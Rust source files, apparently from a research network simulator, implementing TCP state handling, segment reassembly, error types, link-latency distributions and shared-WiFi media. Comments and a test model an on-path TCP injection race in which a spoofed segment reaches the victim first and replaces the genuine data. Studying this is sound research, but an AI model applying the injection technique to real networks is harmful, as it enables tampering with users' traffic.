    fn drain_contiguous(&mut self) {
        loop {
            let next_offset = self.assembled_len();
            match self.pending.remove(&next_offset) {
                Some(chunk) => self.assembled.extend_from_slice(&chunk),
                None => break,
            }
        }
    }

    /// Returns the contiguous application-visible byte stream.
    pub fn assembled(&self) -> &[u8] {
        &self.assembled
    }

    /// Returns `true` if there are buffered out-of-order ranges waiting for a gap to fill.
    pub fn has_gaps(&self) -> bool {
        !self.pending.is_empty()
    }
}

/// A single TCP connection endpoint (one side of a connection).
#[derive(Debug, Clone)]
pub struct TcpConnection {
    state: TcpState,
    local: SocketAddr,
    remote: SocketAddr,
    /// Initial send sequence number.
    iss: SeqNum,
    /// Initial receive sequence number (peer's ISS), valid after SYN seen.
    irs: SeqNum,
    /// Next sequence number we will send.
    snd_nxt: SeqNum,
    /// Highest cumulative ACK received from the peer.
    snd_una: SeqNum,
    /// Next sequence number expected from the peer.
    rcv_nxt: SeqNum,
    /// Receive window we advertise.
    rcv_wnd: u32,
    /// Maximum segment size for outgoing data.
    mss: usize,
    reassembler: Reassembler,
    /// Bytes already handed to the application.
    delivered: usize,
    /// Whether freshly contiguous bytes are recorded as zero-copy chunks for
    /// [`TcpConnection::take_new_bytes`]. Off by default so endpoints nobody
    /// reads incrementally (e.g. clients without a service) retain no shared
    /// payload handles.
    deliver_chunks: bool,
}

impl TcpConnection {
    /// Creates a connection in the `Listen` state (passive open).
    pub fn listen(local: SocketAddr, iss: SeqNum) -> Self {
        TcpConnection {
            state: TcpState::Listen,
            local,
            remote: SocketAddr::new(crate::addr::IpAddr::UNSPECIFIED, 0),
            iss,
            irs: SeqNum::new(0),
            snd_nxt: iss,
            snd_una: iss,
            rcv_nxt: SeqNum::new(0),
            rcv_wnd: 65_535,
            mss: DEFAULT_MSS,
            reassembler: Reassembler::new(),
            delivered: 0,
            deliver_chunks: false,
        }
    }

    /// Creates a connection performing an active open and returns the SYN to
    /// transmit.
    pub fn connect(local: SocketAddr, remote: SocketAddr, iss: SeqNum) -> (Self, Segment) {
        let syn = Segment::control(local.port, remote.port, iss, SeqNum::new(0), TcpFlags::SYN);
        let conn = TcpConnection {
            state: TcpState::SynSent,
            local,
            remote,
            iss,
            irs: SeqNum::new(0),
            snd_nxt: iss + 1,
            snd_una: iss,
            rcv_nxt: SeqNum::new(0),
            rcv_wnd: 65_535,
            mss: DEFAULT_MSS,
            reassembler: Reassembler::new(),
            delivered: 0,
            deliver_chunks: false,
        };
        (conn, syn)
    }

    /// Current state.
    pub fn state(&self) -> TcpState {
        self.state
    }

    /// Local endpoint.
    pub fn local(&self) -> SocketAddr {
        self.local
    }

    /// Remote endpoint (unspecified until a SYN is received on a listener).
    pub fn remote(&self) -> SocketAddr {
        self.remote
    }

    /// Next sequence number this endpoint will use for new data.
    pub fn send_next(&self) -> SeqNum {
        self.snd_nxt
    }

    /// Next sequence number expected from the peer. An eavesdropper who has
    /// seen the client's request knows this value for the server direction,
    /// which is all it needs to spoof an acceptable response.
    pub fn recv_next(&self) -> SeqNum {
        self.rcv_nxt
    }

    /// Advertised receive window.
    pub fn recv_window(&self) -> u32 {
        self.rcv_wnd
    }

    /// Overrides the maximum segment size (for experiments).
    pub fn set_mss(&mut self, mss: usize) {
        assert!(mss > 0, "MSS must be positive");
        self.mss = mss;
    }

    /// Enables or disables zero-copy chunk recording for
    /// [`TcpConnection::take_new_bytes`]. [`Host::deliver`] switches it on for
    /// hosts with an attached service; leaving it off keeps endpoints nobody
    /// reads incrementally from holding shared payload buffers alive.
    ///
    /// [`Host::deliver`]: crate::endpoint::Host::deliver
    pub fn set_chunk_delivery(&mut self, enabled: bool) {
        self.deliver_chunks = enabled;
        if !enabled {
            self.reassembler.clear_fresh();
        }
    }

    /// Returns `true` once the three-way handshake has completed.
    pub fn is_established(&self) -> bool {
        matches!(
            self.state,
            TcpState::Established | TcpState::FinWait | TcpState::CloseWait
        )
    }

    /// Queues application data for transmission, segmenting at the MSS, and
    /// returns the segments to hand to the network layer.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::InvalidState`] if the connection is not
    /// established.
    pub fn send(&mut self, data: &[u8]) -> Result<Vec<Segment>, NetError> {
        self.send_bytes(Bytes::copy_from_slice(data))
    }

    /// [`TcpConnection::send`] without the copy: each MSS-sized segment
    /// payload is a zero-copy slice of the shared buffer.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::InvalidState`] if the connection is not
    /// established.
    pub fn send_bytes(&mut self, data: Bytes) -> Result<Vec<Segment>, NetError> {
        let mut segments = Vec::with_capacity(data.len().div_ceil(self.mss).max(1));
        self.send_bytes_into(data, &mut segments)?;
        Ok(segments)
    }

    /// [`TcpConnection::send_bytes`] into a caller-owned buffer, so the hot
    /// service path can reuse one segment scratch vector across sends.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::InvalidState`] if the connection is not
    /// established (nothing is appended to `out`).
    pub fn send_bytes_into(&mut self, data: Bytes, out: &mut Vec<Segment>) -> Result<(), NetError> {
        if !self.is_established() {
            return Err(NetError::InvalidState {
                reason: format!("cannot send in state {:?}", self.state),
            });
        }
        let mut offset = 0usize;
        while offset < data.len() {
            let end = (offset + self.mss).min(data.len());
            let chunk = data.slice(offset..end);
            let len = chunk.len() as u32;
            let seg = Segment::data(
                self.local.port,
                self.remote.port,
                self.snd_nxt,
                self.rcv_nxt,
                chunk,
            );
            self.snd_nxt = self.snd_nxt + len;
            out.push(seg);
            offset = end;
        }
        Ok(())
    }

    /// Initiates connection teardown, returning the FIN segment.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::InvalidState`] if the connection is not established.
    pub fn close(&mut self) -> Result<Segment, NetError> {
        if !self.is_established() {
            return Err(NetError::InvalidState {
                reason: format!("cannot close in state {:?}", self.state),
            });
        }
        let fin = Segment::control(
            self.local.port,
            self.remote.port,
            self.snd_nxt,
            self.rcv_nxt,
            TcpFlags::FIN_ACK,
        );
        self.snd_nxt = self.snd_nxt + 1;
        self.state = TcpState::FinWait;
        Ok(fin)
    }

    /// Processes an incoming segment from `peer`, returning any segments to
    /// send in response plus a record of what happened to the payload.
    pub fn on_segment(&mut self, peer: SocketAddr, seg: &Segment) -> (Vec<Segment>, AcceptOutcome) {
        let mut responses = Vec::new();
        let outcome = self.on_segment_into(peer, seg, &mut responses);
        (responses, outcome)
    }

    /// [`TcpConnection::on_segment`] appending responses to a caller-owned
    /// buffer, so the simulator's event loop reuses one segment vector across
    /// deliveries instead of allocating per event.
    pub fn on_segment_into(
        &mut self,
        peer: SocketAddr,
        seg: &Segment,
        responses: &mut Vec<Segment>,
    ) -> AcceptOutcome {
        if seg.flags.rst {
            if self.state != TcpState::Listen && self.state != TcpState::Closed {
                self.state = TcpState::Reset;
            }
            return AcceptOutcome::ResetReceived;
        }

        match self.state {
            TcpState::Listen => self.on_segment_listen(peer, seg, responses),
            TcpState::SynSent => self.on_segment_syn_sent(seg, responses),
            TcpState::SynReceived => {
                if seg.flags.ack {
                    self.state = TcpState::Established;
                    self.snd_una = seg.ack;
                }
                // The ACK completing the handshake may already carry data.
                if !seg.payload.is_empty() {
                    self.on_data(seg, responses)
                } else {
                    AcceptOutcome::NoData
                }
            }
            TcpState::Established | TcpState::FinWait | TcpState::CloseWait => {
                self.on_data(seg, responses)
            }
            TcpState::Closed | TcpState::Reset => {
                // A closed endpoint answers with RST.
                responses.push(Segment::control(
                    self.local.port,
                    peer.port,
                    seg.ack,
                    seg.seq_end(),
                    TcpFlags::RST,
                ));
                AcceptOutcome::NoData
            }
        }
    }

    fn on_segment_listen(
        &mut self,
        peer: SocketAddr,
        seg: &Segment,
        responses: &mut Vec<Segment>,
    ) -> AcceptOutcome {
        if !seg.flags.syn {
            return AcceptOutcome::NoData;
        }
        self.remote = peer;
        self.irs = seg.seq;
        self.rcv_nxt = seg.seq + 1;
        self.state = TcpState::SynReceived;
        responses.push(Segment::control(
            self.local.port,
            peer.port,
            self.iss,
            self.rcv_nxt,
            TcpFlags::SYN_ACK,
        ));
        self.snd_nxt = self.iss + 1;
        AcceptOutcome::NoData
    }

    fn on_segment_syn_sent(&mut self, seg: &Segment, responses: &mut Vec<Segment>) -> AcceptOutcome {
        if !(seg.flags.syn && seg.flags.ack) {
            return AcceptOutcome::NoData;
        }
        self.irs = seg.seq;
        self.rcv_nxt = seg.seq + 1;
        self.snd_una = seg.ack;
        self.state = TcpState::Established;
        responses.push(Segment::control(
            self.local.port,
            self.remote.port,
            self.snd_nxt,
            self.rcv_nxt,
            TcpFlags::ACK,
        ));
        AcceptOutcome::NoData
    }

    fn on_data(&mut self, seg: &Segment, responses: &mut Vec<Segment>) -> AcceptOutcome {
        if seg.flags.ack {
            self.snd_una = seg.ack;
        }

        let mut outcome = AcceptOutcome::NoData;
        if !seg.payload.is_empty() {
            let window_start = self.rcv_nxt;
            let payload_len = seg.payload.len() as u32;
            let seg_end = seg.seq + payload_len;
            if seg_end.precedes_or_eq(window_start) {
                // Entirely old data: the losing side of an injection race or a
                // retransmission. Acknowledged below but the payload is dropped.
                outcome = AcceptOutcome::DuplicateDropped;
            } else {
                // The segment must overlap [rcv_nxt, rcv_nxt + rcv_wnd).
                let in_window = seg.seq.in_window(window_start, self.rcv_wnd)
                    || window_start.in_window(seg.seq, payload_len);
                if !in_window {
                    return AcceptOutcome::OutOfWindow;
                }
                let offset = self.irs.distance_to(seg.seq) as u64;
                // Offset 0 is the SYN; payload starts at stream offset (offset - 1).
                let stream_offset = offset.saturating_sub(1);
                let fresh =
                    self.reassembler
                        .offer_bytes(stream_offset, &seg.payload, self.deliver_chunks);
                outcome = if fresh > 0 {
                    AcceptOutcome::Accepted { fresh_bytes: fresh }
                } else {
                    AcceptOutcome::DuplicateDropped
                };
                self.rcv_nxt = self.irs + 1 + self.reassembler.assembled_len() as u32;
            }
        }

        if seg.flags.fin {
            self.rcv_nxt = self.rcv_nxt + 1;
            if self.state == TcpState::Established {
                self.state = TcpState::CloseWait;
            } else if self.state == TcpState::FinWait {
                self.state = TcpState::Closed;
            }
        }
        if !seg.payload.is_empty() || seg.flags.fin {
            responses.push(Segment::control(
                self.local.port,
                self.remote.port,
                self.snd_nxt,
                self.rcv_nxt,
                TcpFlags::ACK,
            ));
        }
        outcome
    }

    /// Returns application data that has become available since the last call.
    pub fn read_new(&mut self) -> Vec<u8> {
        self.reassembler.clear_fresh();
        let assembled = self.reassembler.assembled();
        let new = assembled[self.delivered..].to_vec();
        self.delivered = assembled.len();
        new
    }

    /// [`TcpConnection::read_new`] without the copy: appends the bytes that
    /// became available since the last read to `out` as shared [`Bytes`]
    /// chunks. With chunk delivery enabled
    /// ([`TcpConnection::set_chunk_delivery`]) the chunks are zero-copy slices
    /// of the arriving segments; otherwise (or after mixing in plain
    /// [`TcpConnection::read_new`] calls) one copied chunk is produced.
    pub fn take_new_bytes(&mut self, out: &mut Vec<Bytes>) {
        let len = self.reassembler.assembled().len();
        if self.delivered >= len {
            self.reassembler.clear_fresh();
            return;
        }
        if self.reassembler.fresh_len() == (len - self.delivered) as u64 {
            self.reassembler.take_fresh(out);
        } else {
            self.reassembler.clear_fresh();
            out.push(Bytes::copy_from_slice(
                &self.reassembler.assembled()[self.delivered..],
            ));
        }
        self.delivered = len;
    }

    /// Returns the entire contiguous byte stream received so far.
    pub fn received(&self) -> &[u8] {
        self.reassembler.assembled()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addr::IpAddr;

    fn addrs() -> (SocketAddr, SocketAddr) {
        (
            SocketAddr::new(IpAddr::new(10, 0, 0, 2), 51000),
            SocketAddr::new(IpAddr::new(93, 184, 216, 34), 80),
        )
    }

    /// Runs a full handshake between a client and a server connection.
    fn handshake() -> (TcpConnection, TcpConnection) {
        let (client_addr, server_addr) = addrs();
        let (mut client, syn) = TcpConnection::connect(client_addr, server_addr, SeqNum::new(1000));
        let mut server = TcpConnection::listen(server_addr, SeqNum::new(5000));

        let (synack, _) = server.on_segment(client_addr, &syn);
        assert_eq!(synack.len(), 1);
        let (ack, _) = client.on_segment(server_addr, &synack[0]);
        assert_eq!(ack.len(), 1);
        server.on_segment(client_addr, &ack[0]);

        assert!(client.is_established());
        assert!(server.is_established());
        (client, server)
    }

    #[test]
    fn three_way_handshake_establishes_both_sides() {
        let (client, server) = handshake();
        assert_eq!(client.state(), TcpState::Established);
        assert_eq!(server.state(), TcpState::Established);
        // Server's rcv_nxt is the client's snd_nxt, as an eavesdropper would infer.
        assert_eq!(server.recv_next(), client.send_next());
    }

    #[test]
    fn data_transfer_delivers_in_order() {
        let (mut client, mut server) = handshake();
        let (client_addr, _) = addrs();
        let segments = client.send(b"GET / HTTP/1.1\r\n\r\n").unwrap();
        for seg in &segments {
            server.on_segment(client_addr, seg);
        }
        assert_eq!(server.received(), b"GET / HTTP/1.1\r\n\r\n");
        assert_eq!(server.read_new(), b"GET / HTTP/1.1\r\n\r\n".to_vec());
        assert!(server.read_new().is_empty());
    }

    #[test]
    fn large_payload_is_segmented_at_mss() {
        let (mut client, mut server) = handshake();
        let (client_addr, _) = addrs();
        let body = vec![0x61u8; DEFAULT_MSS * 2 + 100];
        let segments = client.send(&body).unwrap();
        assert_eq!(segments.len(), 3);
        for seg in &segments {
            server.on_segment(client_addr, seg);
        }
        assert_eq!(server.received().len(), body.len());
    }

    #[test]
    fn first_segment_wins_over_later_duplicate() {
        let (client, mut server) = handshake();
        let (client_addr, _) = addrs();
        let seq = client.send_next();

        // Attacker's spoofed payload arrives first for this sequence range.
        let spoofed = Segment::data(51000, 80, seq, server.send_next(), &b"EVIL DATA!"[..]);
        let (_, outcome1) = server.on_segment(client_addr, &spoofed);
        assert_eq!(outcome1, AcceptOutcome::Accepted { fresh_bytes: 10 });

        // Genuine payload for the same range arrives later and is dropped.
        let genuine = Segment::data(51000, 80, seq, server.send_next(), &b"real data."[..]);
        let (_, outcome2) = server.on_segment(client_addr, &genuine);
        assert_eq!(outcome2, AcceptOutcome::DuplicateDropped);

        assert_eq!(server.received(), b"EVIL DATA!");
    }

    #[test]
    fn out_of_order_segments_are_reassembled() {
        let (client, mut server) = handshake();
        let (client_addr, _) = addrs();
        let seq = client.send_next();

        let part2 = Segment::data(51000, 80, seq + 5, server.send_next(), &b"world"[..]);
        let part1 = Segment::data(51000, 80, seq, server.send_next(), &b"hello"[..]);
        server.on_segment(client_addr, &part2);
        assert_eq!(server.received(), b"");
        server.on_segment(client_addr, &part1);
        assert_eq!(server.received(), b"helloworld");
    }

    #[test]
    fn out_of_window_segment_is_rejected() {
        let (client, mut server) = handshake();
        let (client_addr, _) = addrs();
        let far_future = client.send_next() + 1_000_000;
        let seg = Segment::data(51000, 80, far_future, server.send_next(), &b"zzz"[..]);
        let (_, outcome) = server.on_segment(client_addr, &seg);
        assert_eq!(outcome, AcceptOutcome::OutOfWindow);
        assert!(server.received().is_empty());
    }

    #[test]
    fn rst_tears_down_the_connection() {
        let (mut client, _server) = handshake();
        let (_, server_addr) = addrs();
        let rst = Segment::control(80, 51000, SeqNum::new(0), SeqNum::new(0), TcpFlags::RST);
        let (_, outcome) = client.on_segment(server_addr, &rst);
        assert_eq!(outcome, AcceptOutcome::ResetReceived);
        assert_eq!(client.state(), TcpState::Reset);
        assert!(client.send(b"more").is_err());
    }

    #[test]
    fn fin_moves_to_close_wait_and_acks() {
        let (mut client, mut server) = handshake();
        let (client_addr, server_addr) = addrs();
        let fin = client.close().unwrap();
        let (acks, _) = server.on_segment(client_addr, &fin);
        assert_eq!(server.state(), TcpState::CloseWait);
        assert_eq!(acks.len(), 1);
        client.on_segment(server_addr, &acks[0]);
        assert_eq!(client.state(), TcpState::FinWait);
    }

    #[test]
    fn send_before_handshake_is_an_error() {
        let (client_addr, server_addr) = addrs();
        let (mut client, _syn) = TcpConnection::connect(client_addr, server_addr, SeqNum::new(1));
        let err = client.send(b"early").unwrap_err();
        assert!(matches!(err, NetError::InvalidState { .. }));
    }

    #[test]
    fn take_new_bytes_hands_over_zero_copy_chunks() {
        let (mut client, mut server) = handshake();
        let (client_addr, _) = addrs();
        server.set_chunk_delivery(true);
        let segments = client.send(b"GET /my.js HTTP/1.1\r\n\r\n").unwrap();
        for seg in &segments {
            server.on_segment(client_addr, seg);
        }
        let mut chunks = Vec::new();
        server.take_new_bytes(&mut chunks);
        let stitched: Vec<u8> = chunks.iter().flat_map(|c| c.iter().copied()).collect();
        assert_eq!(stitched, b"GET /my.js HTTP/1.1\r\n\r\n");
        // Nothing new: a second take yields nothing.
        chunks.clear();
        server.take_new_bytes(&mut chunks);
        assert!(chunks.is_empty());
        // The bytes counted as delivered, so read_new sees nothing either.
        assert!(server.read_new().is_empty());
    }

    #[test]
    fn take_new_bytes_falls_back_to_a_copy_without_chunk_tracking() {
        let (mut client, mut server) = handshake();
        let (client_addr, _) = addrs();
        // Tracking off (the default): delivery still works, via one copied
        // chunk.
        let segments = client.send(b"hello world").unwrap();
        for seg in &segments {
            server.on_segment(client_addr, seg);
        }
        let mut chunks = Vec::new();
        server.take_new_bytes(&mut chunks);
        assert_eq!(chunks.len(), 1);
        assert_eq!(&chunks[0][..], b"hello world");
    }

    #[test]
    fn chunk_tracking_interoperates_with_read_new() {
        let (mut client, mut server) = handshake();
        let (client_addr, _) = addrs();
        server.set_chunk_delivery(true);
        for seg in &client.send(b"first").unwrap() {
            server.on_segment(client_addr, seg);
        }
        assert_eq!(server.read_new(), b"first".to_vec());
        for seg in &client.send(b"second").unwrap() {
            server.on_segment(client_addr, seg);
        }
        let mut chunks = Vec::new();
        server.take_new_bytes(&mut chunks);
        let stitched: Vec<u8> = chunks.iter().flat_map(|c| c.iter().copied()).collect();
        assert_eq!(stitched, b"second");
        assert_eq!(server.received(), b"firstsecond");
    }

    #[test]
    fn out_of_order_chunks_are_stitched_correctly() {
        let (client, mut server) = handshake();
        let (client_addr, _) = addrs();
        server.set_chunk_delivery(true);
        let seq = client.send_next();
        let part2 = Segment::data(51000, 80, seq + 5, server.send_next(), &b"world"[..]);
        let part1 = Segment::data(51000, 80, seq, server.send_next(), &b"hello"[..]);
        server.on_segment(client_addr, &part2);
        server.on_segment(client_addr, &part1);
        let mut chunks = Vec::new();
        server.take_new_bytes(&mut chunks);
        let stitched: Vec<u8> = chunks.iter().flat_map(|c| c.iter().copied()).collect();
        assert_eq!(stitched, b"helloworld");
    }

    #[test]
    fn reassembler_partial_overlap_keeps_first_bytes() {
        let mut r = Reassembler::new();
        assert_eq!(r.offer(0, b"AAAA"), 4);
        // Overlapping write: only the two new trailing bytes are fresh.
        assert_eq!(r.offer(2, b"BBBB"), 2);
        assert_eq!(r.assembled(), b"AAAABB");
    }

    #[test]
    fn reassembler_fills_gap_between_pending_ranges() {
        let mut r = Reassembler::new();
        assert_eq!(r.offer(10, b"cc"), 2);
        assert_eq!(r.offer(0, b"aa"), 2);
        assert!(r.has_gaps());
        assert_eq!(r.assembled(), b"aa");
        assert_eq!(r.offer(2, b"bbbbbbbb"), 8);
        assert_eq!(r.assembled(), b"aabbbbbbbbcc");
        assert!(!r.has_gaps());
    }
}
