//! Error type for the network simulator.

use std::fmt;

/// Errors returned by the network simulator.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum NetError {
    /// The referenced host does not exist in the simulator.
    UnknownHost(String),
    /// The referenced connection does not exist on the host.
    UnknownConnection(u64),
    /// The referenced medium/link does not exist.
    UnknownMedium(u64),
    /// A connection could not be established (no listener, RST, timeout).
    ConnectionRefused {
        /// Destination that refused the connection.
        destination: String,
        /// Destination port.
        port: u16,
    },
    /// The connection is not in a state that permits the operation.
    InvalidState {
        /// Human readable description of the state conflict.
        reason: String,
    },
    /// The payload exceeds the maximum segment size and cannot be sent as one segment.
    PayloadTooLarge {
        /// Requested payload length.
        len: usize,
        /// Maximum segment size in effect.
        mss: usize,
    },
    /// The two hosts are not attached to a common medium.
    NoRoute {
        /// Source host name.
        from: String,
        /// Destination host name.
        to: String,
    },
    /// The simulation processed more events than its configured budget —
    /// usually a feedback loop between a tap and a host. Returned (not
    /// panicked) so one runaway scenario cannot abort a whole batch sweep.
    EventBudgetExhausted {
        /// The budget that was exhausted.
        budget: u64,
    },
}

impl fmt::Display for NetError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NetError::UnknownHost(name) => write!(f, "unknown host: {name}"),
            NetError::UnknownConnection(id) => write!(f, "unknown connection id {id}"),
            NetError::UnknownMedium(id) => write!(f, "unknown medium id {id}"),
            NetError::ConnectionRefused { destination, port } => {
                write!(f, "connection refused by {destination}:{port}")
            }
            NetError::InvalidState { reason } => write!(f, "invalid connection state: {reason}"),
            NetError::PayloadTooLarge { len, mss } => {
                write!(f, "payload of {len} bytes exceeds maximum segment size {mss}")
            }
            NetError::NoRoute { from, to } => write!(f, "no route from {from} to {to}"),
            NetError::EventBudgetExhausted { budget } => write!(
                f,
                "event budget exhausted after {budget} events: possible feedback loop between a tap and a host"
            ),
        }
    }
}

impl std::error::Error for NetError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_is_lowercase_and_informative() {
        let err = NetError::ConnectionRefused {
            destination: "example.org".into(),
            port: 443,
        };
        let msg = err.to_string();
        assert!(msg.contains("example.org:443"));
        assert!(msg.starts_with("connection refused"));
    }

    #[test]
    fn error_is_send_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<NetError>();
    }
}
