//! Seeded sampling distributions for heterogeneous link parameters.
//!
//! The campaign experiments model a *fleet* of café access points. Real APs
//! are not identical: latency, jitter and how many clients sit behind each
//! one vary. This module provides the small set of integer distributions the
//! fleet draws those parameters from — deterministic under a seeded
//! [`Rng`], so a heterogeneous million-client campaign replays byte-for-byte
//! from its seed. The samples feed [`crate::sim::Simulator::add_medium`] and
//! [`crate::sim::Simulator::set_medium_jitter`].

use crate::time::Duration;
use rand::Rng;
use serde::{Deserialize, Serialize};

/// An integer-valued sampling distribution (values are microseconds when used
/// for link timing, plain counts when used for population weights).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Dist {
    /// Always the same value.
    Const(u64),
    /// Uniform over the inclusive range `[lo, hi]`.
    Uniform {
        /// Smallest sampled value.
        lo: u64,
        /// Largest sampled value (inclusive).
        hi: u64,
    },
    /// Triangular over `[lo, hi]` with the given mode (sampled by inverse
    /// CDF): mass concentrates around `mode` with a linear tail — a
    /// reasonable stand-in for "most APs are ordinary, a few are slow"
    /// without pulling in a full log-normal implementation.
    Triangular {
        /// Smallest sampled value.
        lo: u64,
        /// Most likely value.
        mode: u64,
        /// Largest sampled value (inclusive).
        hi: u64,
    },
}

impl Dist {
    /// Draws one sample.
    ///
    /// # Panics
    ///
    /// Panics if the distribution's bounds are inverted (`lo > hi`, or the
    /// mode outside `[lo, hi]`).
    pub fn sample<R: Rng>(&self, rng: &mut R) -> u64 {
        match *self {
            Dist::Const(value) => value,
            Dist::Uniform { lo, hi } => {
                assert!(lo <= hi, "uniform bounds inverted: [{lo}, {hi}]");
                if lo == hi {
                    lo
                } else {
                    lo + rng.gen_range(0..=(hi - lo))
                }
            }
            Dist::Triangular { lo, mode, hi } => {
                assert!(
                    lo <= mode && mode <= hi,
                    "triangular bounds inverted: [{lo}, {mode}, {hi}]"
                );
                if lo == hi {
                    return lo;
                }
                // Inverse CDF of the triangular distribution. The continuous
                // support is widened by half a unit on each side so that
                // rounding gives every integer — endpoints included — a
                // full-width bin: sampling on [lo, hi] directly would leave
                // `lo` and `hi` half-width bins and pile the clamped tail
                // mass onto them.
                let (lo_f, mode_f, hi_f) = (lo as f64 - 0.5, mode as f64, hi as f64 + 0.5);
                let span = hi_f - lo_f;
                let cut = (mode_f - lo_f) / span;
                let u: f64 = rng.gen();
                let sample = if u < cut {
                    lo_f + (u * span * (mode_f - lo_f)).sqrt()
                } else {
                    hi_f - ((1.0 - u) * span * (hi_f - mode_f)).sqrt()
                };
                sample.round().clamp(lo as f64, hi as f64) as u64
            }
        }
    }

    /// Draws one sample as a [`Duration`] in microseconds.
    pub fn sample_micros<R: Rng>(&self, rng: &mut R) -> Duration {
        Duration::from_micros(self.sample(rng))
    }

    /// The smallest value the distribution can produce.
    pub fn min(&self) -> u64 {
        match *self {
            Dist::Const(value) => value,
            Dist::Uniform { lo, .. } | Dist::Triangular { lo, .. } => lo,
        }
    }

    /// The largest value the distribution can produce.
    pub fn max(&self) -> u64 {
        match *self {
            Dist::Const(value) => value,
            Dist::Uniform { hi, .. } | Dist::Triangular { hi, .. } => hi,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn constant_always_returns_its_value() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..10 {
            assert_eq!(Dist::Const(42).sample(&mut rng), 42);
        }
    }

    #[test]
    fn uniform_stays_in_bounds_and_covers_the_range() {
        let mut rng = StdRng::seed_from_u64(7);
        let dist = Dist::Uniform { lo: 10, hi: 13 };
        let mut seen = std::collections::HashSet::new();
        for _ in 0..200 {
            let v = dist.sample(&mut rng);
            assert!((10..=13).contains(&v), "out of bounds: {v}");
            seen.insert(v);
        }
        assert_eq!(seen.len(), 4, "all four values should appear in 200 draws");
        assert_eq!(Dist::Uniform { lo: 5, hi: 5 }.sample(&mut rng), 5);
    }

    #[test]
    fn triangular_stays_in_bounds_and_prefers_the_mode_side() {
        let mut rng = StdRng::seed_from_u64(11);
        let dist = Dist::Triangular { lo: 0, mode: 100, hi: 1_000 };
        let mut below = 0usize;
        for _ in 0..2_000 {
            let v = dist.sample(&mut rng);
            assert!(v <= 1_000);
            if v < 300 {
                below += 1;
            }
        }
        // Mass concentrates near the mode (100): P(X < 300) ≈ 0.456 for this
        // triangle, well above the 0.3 a uniform distribution would put there.
        assert!(below > 750, "only {below} of 2000 samples near the mode");
        // Degenerate spans behave.
        assert_eq!(Dist::Triangular { lo: 9, mode: 9, hi: 9 }.sample(&mut rng), 9);
    }

    #[test]
    fn triangular_endpoint_bins_get_full_width_mass() {
        // With the mode sitting on an endpoint, that endpoint's bin must get
        // the full-width mass of the widened support, not the half-width bin
        // (plus clamped tail) the old `[lo, hi]` sampling produced. For
        // Triangular{0, 0, 10} the exact mass of 0 is
        // F(0.5) = 1 − 10² / (11 · 10.5) ≈ 0.1342, so 10 000 draws put
        // ≈ 1342 samples there (σ ≈ 34); the half-width bucketing puts only
        // ≈ 975 (σ ≈ 30). The 1150 threshold separates the two by > 5σ.
        let count_at = |dist: Dist, value: u64| {
            let mut rng = StdRng::seed_from_u64(2021);
            (0..10_000).filter(|_| dist.sample(&mut rng) == value).count()
        };
        let at_lo = count_at(Dist::Triangular { lo: 0, mode: 0, hi: 10 }, 0);
        assert!(at_lo > 1150, "lo-mode endpoint underweighted: {at_lo} of 10000");
        // Mirror case: the mode on the upper endpoint.
        let at_hi = count_at(Dist::Triangular { lo: 0, mode: 10, hi: 10 }, 10);
        assert!(at_hi > 1150, "hi-mode endpoint underweighted: {at_hi} of 10000");
        // Interior bins keep a consistent share: the first off-mode bin of
        // the lo-mode triangle holds F(1.5) − F(0.5) = 19 / 115.5 ≈ 0.1645
        // of the mass.
        let mut rng = StdRng::seed_from_u64(2021);
        let dist = Dist::Triangular { lo: 0, mode: 0, hi: 10 };
        let mut counts = [0usize; 11];
        for _ in 0..10_000 {
            counts[dist.sample(&mut rng) as usize] += 1;
        }
        assert!((1450..1850).contains(&counts[1]), "interior bin drifted: {}", counts[1]);
        // No mass escapes the integer support.
        assert_eq!(counts.iter().sum::<usize>(), 10_000);
    }

    #[test]
    fn samples_are_deterministic_per_seed() {
        let draw = |seed: u64| {
            let mut rng = StdRng::seed_from_u64(seed);
            let dist = Dist::Triangular { lo: 500, mode: 2_000, hi: 8_000 };
            (0..16).map(|_| dist.sample(&mut rng)).collect::<Vec<_>>()
        };
        assert_eq!(draw(3), draw(3));
        assert_ne!(draw(3), draw(4));
    }

    #[test]
    fn min_max_report_the_support() {
        assert_eq!(Dist::Const(7).min(), 7);
        assert_eq!(Dist::Const(7).max(), 7);
        let u = Dist::Uniform { lo: 2, hi: 9 };
        assert_eq!((u.min(), u.max()), (2, 9));
        let t = Dist::Triangular { lo: 1, mode: 4, hi: 8 };
        assert_eq!((t.min(), t.max()), (1, 8));
        assert!(t.sample_micros(&mut StdRng::seed_from_u64(1)).as_micros() >= 1);
    }
}
