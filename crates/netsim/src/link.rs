//! Transmission media connecting hosts.
//!
//! The attack scenario in the paper is a victim and an attacker sharing a
//! public WiFi network while the web server sits across the Internet. Two
//! medium kinds cover this: a *shared wireless* medium on which every
//! attached station (including the attacker's tap) receives a copy of every
//! frame, and a *switched* medium on which only the addressed host receives
//! the packet.

use crate::time::Duration;
use serde::{Deserialize, Serialize};

/// Identifier of a medium within a simulator.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct MediumId(pub u64);

/// The broadcast/visibility behaviour of a medium.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum MediumKind {
    /// Open wireless network: eavesdroppers attached to the medium observe
    /// every packet (the paper's public-WiFi attacker model, §III).
    SharedWireless,
    /// Switched / wired network: only the destination receives the packet;
    /// taps attached here observe nothing.
    Switched,
    /// A wide-area path (the Internet between the access network and the web
    /// server). Behaves like `Switched` but typically has a much larger
    /// latency, which is what gives the local attacker its head start in the
    /// injection race.
    WideArea,
}

/// A transmission medium with a one-way latency and optional jitter.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Medium {
    /// Identifier.
    pub id: MediumId,
    /// Kind of medium.
    pub kind: MediumKind,
    /// One-way propagation plus serialisation latency applied to every packet.
